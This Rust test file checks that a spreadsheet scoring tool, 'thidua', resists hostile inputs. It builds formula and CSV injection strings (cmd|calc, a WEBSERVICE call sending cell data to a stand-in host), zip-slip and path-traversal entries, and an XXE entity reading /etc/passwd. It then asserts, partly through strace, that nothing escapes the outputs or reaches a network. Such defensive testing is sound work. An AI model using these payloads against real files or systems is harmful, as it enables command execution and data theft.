//! Nothing in an input makes the program read or write elsewhere, run anything, reach a network or put a formula into
//! an output.

#![allow(clippy::print_stdout, reason = "what was counted is shown with --nocapture")]

use std::fs;
use std::io::{Cursor, Read, Write};
use std::path::{Component, Path, PathBuf};
use std::process::Command;

use crate::harness::{SCORING, World, number, rows, text};
use crate::silent::patched;

/// Texts that a spreadsheet would run, if they were a formula or a field of csv.
const LIVE: [&str; 7] = [
    "=WEBSERVICE(\"http://x.invalid/\"&A1)",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=HYPERLINK(\"http://x.invalid\",\"x\")",
    "http://x.invalid/",
];

/// Where the parts of an archive point.
fn escaped() -> PathBuf {
    std::env::temp_dir().join("thidua-escaped")
}

/// A world whose every text is made to be run, followed or opened, by name, cell, sheet or part.
fn hostile() -> World {
    let world = World::whole();
    let member = format!("{{ name = \"../../../x\", aliases = [{:?}, \"Đơn vị Ba\"] }}", LIVE[0]);
    let scoring = SCORING.replacen("{ name = \"Đơn vị Ba\" }", &member, 1);
    world.scoring(&scoring.replacen("name = \"Tuyên truyền\"", &format!("name = {:?}", LIVE[1]), 1));
    let mut form = rows(90.0);
    form[3][1] = text(LIVE[1]);
    let live = |row: usize| [text("9"), text(LIVE[row]), number(1.0), text(LIVE[row]), number(1.0), text(LIVE[row])];
    form.extend((0..LIVE.len()).map(live));
    for (file, bloc, member) in
        [("k1/mot", "k1", "Đơn vị Một"), ("k1/hai", "k1", "Đơn vị Hai"), ("k1/ba", "k1", LIVE[0])]
    {
        world.form(file, bloc, member, &form);
    }
    world.opinions(&[("k1", LIVE[0], LIVE[0]), ("k1", "../../../x", LIVE[3])]);
    world.form("k1/=cmd|x", LIVE[2], LIVE[1], &rows(1.0));
    let with = |part: &str, from: &str, to: &str| {
        let bytes = fs::read(world.root.join("inputs/k1/hai.xlsx")).unwrap();
        patched(&bytes, part, &|xml| xml.replacen(from, to, 1))
    };
    let sheet = "xl/worksheets/sheet1.xml";
    let formula = with(sheet, "<v>90</v>", "<f>WEBSERVICE(\"http://x.invalid\")</f><v>90</v>");
    world.bytes("k1/formula.xlsx", &formula);
    let entity = "?><!DOCTYPE x SYSTEM \"http://x.invalid/x.dtd\" [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
    world.bytes("k1/entity.xlsx", &with(sheet, "?>", entity));
    let mut zip =
        zip::ZipWriter::new_append(Cursor::new(fs::read(world.root.join("inputs/k2/bon.xlsx")).unwrap())).unwrap();
    for part in [
        format!("../../../../../../../..{}", escaped().display()),
        escaped().display().to_string(),
        "xl/externalLinks/externalLink1.xml".to_owned(),
    ] {
        zip.start_file(part, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(b"<externalLink><x r:id=\"http://x.invalid\"/></externalLink>").unwrap();
    }
    world.bytes("k2/bon.xlsx", &zip.finish().unwrap().into_inner());
    world.sheet("k1/sheet.xlsx", "..x.. & '=1'!A1".trim_end_matches('\''), &[vec![text(LIVE[0])]]);
    world
}

/// Names directly in the world, and whether anything escaped to where the parts of an archive point.
#[track_caller]
fn nothing_elsewhere(world: &World) {
    let mut names: Vec<_> = fs::read_dir(&world.root).unwrap().flatten().map(|entry| entry.file_name()).collect();
    names.sort();
    assert_eq!(names, ["inputs", "outputs", "scoring.toml"]);
    assert!(!escaped().exists());
}

#[test]
fn no_input_is_written_to_and_nothing_is_written_elsewhere() {
    let world = hostile();
    let inputs = world.files("inputs");
    for args in [&["--lang", "en"][..], &[], &["check"], &["form"], &["check", "--return", "outputs/tra-lai"]] {
        let ended = world.run(args);
        assert!((0..=1).contains(&ended.code), "{args:?}: {}", ended.stderr);
        nothing_elsewhere(&world);
    }
    assert!(world.files("inputs") == inputs, "the inputs are as they were");
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./".contains(c);
    for (name, _) in world.files("outputs").iter().filter(|(name, _)| !name.starts_with("tra-lai/")) {
        assert!(name.chars().all(plain) && !name.contains(".."), "{name}");
    }
    for (name, _) in world.files("outputs/tra-lai") {
        assert!(Path::new(&name).components().all(|part| matches!(part, Component::Normal(_))), "{name}");
    }
}

fn parts(book: &[u8]) -> Vec<(String, String)> {
    let mut zip = zip::ZipArchive::new(Cursor::new(book)).unwrap();
    (0..zip.len())
        .map(|index| {
            let mut part = zip.by_index(index).unwrap();
            let (name, mut bytes) = (part.name().unwrap().into_owned(), Vec::new());
            part.read_to_end(&mut bytes).unwrap();
            (name, String::from_utf8_lossy(&bytes).into_owned())
        })
        .collect()
}

/// Where the links of a part of a workbook lead that leave it.
fn links(part: &str, xml: &str) -> Vec<String> {
    let relations = xml.split("<Relationship ").skip(1).filter(|_| part.ends_with(".rels"));
    let outside = relations.filter(|relation| relation.contains("TargetMode=\"External\""));
    outside.map(|relation| relation.split("Target=\"").nth(1).unwrap().split('"').next().unwrap().to_owned()).collect()
}

/// The formulas of a part of a workbook.
fn formulas(xml: &str) -> Vec<&str> {
    let begun = xml.split("<f>").skip(1).chain(xml.split("<f ").skip(1)).chain(xml.split("<formula1>").skip(1));
    begun.map(|rest| rest.split("</f").next().unwrap()).collect()
}

#[test]
fn no_text_of_an_input_is_a_formula_a_link_or_a_live_field_of_an_output() {
    let world = hostile();
    for args in [&[][..], &["check", "--return", "outputs/tra-lai"], &["form"]] {
        assert!((0..=1).contains(&world.run(args).code));
    }
    let (mut books, mut held, mut live, mut linked) = (0, 0, 0, 0);
    let files: Vec<String> = world.files("outputs").into_iter().map(|(name, _)| name).collect();
    let own = world.files("outputs").into_iter().filter(|(name, _)| {
        // a sender gets its own file back as it came; everything beside it is ours
        !name.starts_with("tra-lai/")
            || name.rsplit('/').next().is_some_and(|file| file.contains("loi") || file.contains("sua"))
    });
    for (name, bytes) in own {
        if name.ends_with(".csv") {
            let text = String::from_utf8(bytes.clone()).unwrap();
            let run = |field: &str| field.trim_start_matches('"').starts_with(['=', '+', '@', '\t']);
            assert!(!text.lines().flat_map(|line| line.split([',', ';'])).any(run), "{name}");
        }
        if !name.ends_with(".xlsx") {
            continue;
        }
        books += 1;
        for (part, xml) in parts(&bytes) {
            held += usize::from(xml.contains("x.invalid"));
            for formula in formulas(&xml) {
                live += 1;
                let quoted = formula.split("&quot;").enumerate().filter(|(at, _)| at % 2 == 0).map(|(_, code)| code);
                let code: String = quoted.collect::<String>().split('"').step_by(2).collect();
                for word in ["WEBSERVICE", "cmd|", "x.invalid", "calc", "HYPERLINK", "DDE", "[1]"] {
                    assert!(!code.contains(word), "{name}, {part}: {formula}");
                }
            }
            assert!(
                !part.contains("externalLink") && !part.contains("connections") && !part.ends_with(".bin"),
                "{name}: {part}"
            );
            let folder = Path::new(&name).parent().unwrap();
            for target in links(&part, &xml) {
                linked += 1;
                let to = plain(&folder.join(&target)).to_string_lossy().into_owned();
                assert!(files.contains(&to), "{name}, {part}: a link to {target}, which is no file of the set");
            }
        }
    }
    println!(
        "{books} workbooks, {held} parts with the texts of the inputs, {live} formulas of our own, {linked} links to files of the set"
    );
    assert!(books >= 5 && held >= 2 && live > 0, "{books} {held} {live}");
}

/// What the program asked of the system while it ran, one call a line.
fn traced(world: &World, args: &[&str]) -> Vec<String> {
    let log = world.root.join("calls");
    let mut command = Command::new("strace");
    command.args(["-f", "-qq", "-y", "-s", "4096", "-e", "trace=%network,%file,%process", "-e", "signal=none", "-o"]);
    command.arg(&log).arg(env!("CARGO_BIN_EXE_thidua")).args(args).current_dir(&world.root);
    // cargo has the loader look for libraries in its own folders
    command.env_remove("LD_LIBRARY_PATH");
    let ended = command.output().unwrap();
    assert!(matches!(ended.status.code(), Some(0 | 1)), "{}", String::from_utf8_lossy(&ended.stderr));
    let calls = fs::read_to_string(&log).unwrap();
    fs::remove_file(log).unwrap();
    calls.lines().map(|line| line.split_once(' ').map_or(line, |(_, call)| call.trim_start()).to_owned()).collect()
}

/// The files a call names, made whole with the folder it names them in.
fn paths(call: &str, root: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut folder = root.to_owned();
    let mut rest = call;
    while let Some(at) = rest.find(['<', '"']) {
        let quoted = rest.as_bytes()[at] == b'"';
        let Some(end) = rest[at + 1..].find(if quoted { '"' } else { '>' }) else { break };
        let said = &rest[at + 1..at + 1 + end];
        if quoted {
            found.push(plain(&folder.join(said)));
        } else if said.starts_with('/') {
            folder = PathBuf::from(said);
        }
        rest = &rest[at + end + 2..];
    }
    found
}

/// The path without `.` and `..`.
fn plain(path: &Path) -> PathBuf {
    let mut plain = PathBuf::new();
    for part in path.components() {
        match part {
            Component::ParentDir => drop(plain.pop()),
            Component::CurDir => {}
            other => plain.push(other),
        }
    }
    plain
}

/// Where a program of this kind may look beside its inputs: its libraries, and what the system says of itself.
const SYSTEM: [&str; 7] = ["/lib", "/usr/lib", "/etc/ld.so", "/proc", "/sys", "/dev/urandom", "/dev/null"];

#[test]
#[ignore = "needs strace"]
fn the_system_is_asked_for_no_network_no_program_and_nothing_elsewhere() {
    let world = hostile();
    let program = Path::new(env!("CARGO_BIN_EXE_thidua"));
    let (mut calls, mut opened, mut written) = (0, 0, 0);
    for args in [&[][..], &["check", "--verbose"], &["form"], &["check", "--return", "outputs/tra-lai"]] {
        for call in traced(&world, args) {
            let name = call.split('(').next().unwrap();
            if !call.contains('(') || name.contains(' ') {
                continue;
            }
            calls += 1;
            let of_network =
                ["socket", "connect", "bind", "listen", "accept", "send", "recv", "getsockname", "getpeername"];
            assert!(!of_network.iter().any(|word| name.starts_with(word)), "{args:?}: {call}");
            let named = paths(&call, &world.root);
            if name.starts_with("execve") {
                assert!(named[0] == program, "{args:?}: {call}");
                continue;
            }
            let opens = ["open", "openat", "openat2", "creat"].contains(&name);
            let writes =
                ["O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC", "O_APPEND"].iter().any(|flag| call.contains(flag));
            let of_change = [
                "mkdir", "rmdir", "rename", "unlink", "link", "symlink", "chmod", "chown", "mknod", "truncate",
                "utime", "creat",
            ];
            let changes = (opens && writes) || of_change.iter().any(|word| name.starts_with(word));
            for path in named {
                if changes {
                    written += 1;
                    let own = path.starts_with(world.root.join("outputs")) || path == Path::new("/dev/null");
                    assert!(own, "{args:?} changes {}: {call}", path.display());
                } else if opens {
                    opened += 1;
                    let own = path.starts_with(&world.root)
                        || SYSTEM.iter().any(|place| path.to_string_lossy().starts_with(place));
                    assert!(own, "{args:?} opens {}: {call}", path.display());
                }
            }
        }
    }
    println!("{calls} calls, {opened} files opened to read, {written} changes among the outputs");
    assert!(opened > 20 && written > 100, "{calls} {opened} {written}");
}
